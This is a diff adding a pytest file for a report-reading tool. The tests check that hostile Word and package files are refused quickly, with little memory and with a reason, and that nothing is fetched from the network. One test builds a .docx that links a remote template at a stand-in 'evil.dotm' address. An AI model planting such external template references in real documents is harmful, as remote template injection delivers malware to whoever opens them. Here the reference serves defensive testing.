@@ -1,0 +1,87 @@
+"""T19–T21: hostile files are refused in a second, in little memory, with a reason; nothing is fetched or written."""
+
+import json
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from giyearreport.readers import Unreadable, read
+from giyearreport.readers.safety import safe_parts
+from giyearreport.writers import WRITERS
+from tests.readers import ugly
+from tests.readers.hostile import REFUSED
+from tests.readers.layouts import sample
+
+ROOT = Path(__file__).resolve().parents[2]
+SECONDS, MEGABYTES = 1.0, 50
+
+
+@pytest.fixture(scope="module")
+def measured(tmp_path_factory) -> dict[str, dict]:
+    folder = tmp_path_factory.mktemp("hostile")
+    for name, (make, _) in REFUSED.items():
+        (folder / name).write_bytes(make())
+    before = sorted(path.name for path in folder.iterdir())
+    done = subprocess.run(
+        [sys.executable, "-m", "tests.readers.hostile", folder],
+        cwd=ROOT,
+        capture_output=True,
+        encoding="utf-8",
+        timeout=120,
+        check=True,
+        env={"PYTHONPATH": str(ROOT), "PYTHONUTF8": "1", "PYTHONDONTWRITEBYTECODE": "1"},
+    )
+    assert sorted(path.name for path in folder.iterdir()) == before
+    return {line["name"]: line for line in map(json.loads, done.stdout.splitlines())}
+
+
+@pytest.mark.parametrize("name", REFUSED)
+def test_hostile_files_are_refused_with_a_reason(measured, name):
+    message = measured[name]["message"]
+    assert message is not None
+    assert message.startswith(REFUSED[name][1])
+    assert "\n" not in message
+
+
+@pytest.mark.parametrize("name", REFUSED)
+def test_refusing_takes_a_second_at_most_and_little_memory(measured, name):
+    assert measured[name]["seconds"] <= SECONDS
+    assert measured[name]["rise"] <= MEGABYTES
+
+
+def test_no_hostile_file_makes_a_connection(measured):
+    assert [line["sockets"] for line in measured.values()] == [[]] * len(REFUSED)
+
+
+SETTINGS = (
+    '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/>'
+    "</w:settings>"
+)
+RELATIONS = (
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+    f'Type="{ugly.RELATION}/attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/>'
+    "</Relationships>"
+)
+
+
+def test_templates_and_pictures_from_elsewhere_are_never_fetched():
+    """pytest-socket refuses any connection but to this machine; a linked picture is only remarked on."""
+    blocks = ["青石镇2024年政府信息公开工作年度报告", "一、总体情况", "正文一句。", ugly.PICTURE]
+    body = "".join(map(ugly.docx_block, blocks))
+    data = ugly.package(body, word__settings=SETTINGS, word___rels__settings=RELATIONS)
+    reading = read(data, "report.docx")
+    assert reading.content.prose["overview"] == "正文一句。"
+    assert {"kind": "residue", "section": "overview", "printed": "［图片］"} in reading.notes
+
+
+def test_an_honest_document_passes_every_limit():
+    parts = safe_parts(WRITERS["docx"](sample()))
+    assert "word/document.xml" in parts
+
+
+def test_a_package_that_is_no_document_says_so():
+    with pytest.raises(Unreadable, match="压缩包里没有 Word 文档的正文"):
+        read(ugly.package("").replace(b"word/document", b"word/nonesuch"), "report.docx")
